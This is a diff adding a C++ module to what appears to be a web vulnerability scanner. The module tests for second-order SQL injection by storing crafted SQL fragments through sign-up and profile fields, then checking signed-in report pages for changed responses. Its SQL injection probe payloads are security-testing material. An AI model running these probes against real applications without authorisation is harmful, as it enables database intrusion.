@@ -1,0 +1,89 @@
+// sql-second-order: text that is stored safely and pasted into another statement later. Each try
+// stores anew and then asks for the report; what the profile refuses may get in at sign-up.
+#include <algorithm>
+
+#include "core/attack/every_agent.h"
+#include "core/attack/intrusion.h"
+#include "core/attack/session.h"
+
+namespace parapet::attack {
+namespace {
+
+// Stored text as the app shows it back, to see whether it was stored as sent.
+constexpr std::string_view kOddText = "Ab'c\"--;d";
+
+std::vector<Spot> stores(Target const& target) {
+    std::string_view const named = target.option(option::kStore);
+    if (!named.empty()) return spots_named(target, named);
+    std::vector<Spot> spots;
+    for (Spot const& spot : spots_to_try(target, is_text)) {
+        if (spot.endpoint->method != "GET") spots.push_back(spot);
+    }
+    return spots;
+}
+
+std::vector<Endpoint const*> reports(Target const& target) {
+    std::string_view const named = target.option(option::kReport);
+    if (!named.empty()) return endpoints_option(target, option::kReport, "");
+    std::vector<Endpoint const*> endpoints;
+    for (Endpoint const* each : endpoints_to_try(target)) {
+        if (each->method == "GET" && each->signed_in && each->parameters.empty())
+            endpoints.push_back(each);
+    }
+    return endpoints;
+}
+
+class SqlSecondOrder final : public Agent {
+    void run(Target& target) override {
+        Endpoint const* signup = endpoint_option(target, option::kSignup, "signup");
+        std::vector<Spot> spots = stores(target);
+        // Sign-ups last: they cost the app a hash each.
+        std::stable_partition(spots.begin(), spots.end(),
+                              [&](Spot const& spot) { return spot.endpoint != signup; });
+        for (Spot const& spot : spots) {
+            for (Endpoint const* report : reports(target)) {
+                bool const won = spot.endpoint == signup ? try_newcomer(target, spot, *report)
+                                                         : try_stored(target, spot, *report);
+                if (won) return;
+            }
+        }
+    }
+
+    bool try_stored(Target& target, Spot const& spot, Endpoint const& report) {
+        StoredEntry entry(target, spot, report);
+        if (entry.keeps(kOddText)) kept_.push_back(spot.get().name + " " + report.id);
+        return intrude(entry, guess_text(target, spot.get()));
+    }
+
+    // Every account costs the app a hash, so this asks only where it can learn something new: a
+    // field that the profile keeps as sent has been tried by then.
+    bool try_newcomer(Target& target, Spot const& spot, Endpoint const& report) {
+        if (spot.parameter == password_parameter(*spot.endpoint)) return false;
+        std::string const field = spot.get().name + " " + report.id;
+        if (std::find(kept_.begin(), kept_.end(), field) != kept_.end()) return false;
+        NewcomerEntry entry(target, spot, report);
+        return shows_anything(entry) && intrude(entry, guess_text(target, spot.get()));
+    }
+
+    // Three telling texts against a harmless one.
+    static bool shows_anything(Entry& entry) {
+        std::string const nothing = random_word(entry.target(), 6);
+        std::string const ordinary = fingerprint(entry.send(nothing), Detail::NoDigits);
+        Frame const telling[] = {failing(nothing + "'||substr(7,1,0*", ")||'"),
+                                 {nothing + "'=0=(", ")--"},
+                                 {nothing + "''=0=(", ")--"}};
+        for (Frame const& frame : telling) {
+            if (fingerprint(entry.send(frame.around("9>3")), Detail::NoDigits) != ordinary)
+                return true;
+        }
+        return false;
+    }
+
+    std::vector<std::string> kept_;
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_sql_second_order() { return std::make_unique<SqlSecondOrder>(); }
+
+}  // namespace parapet::attack
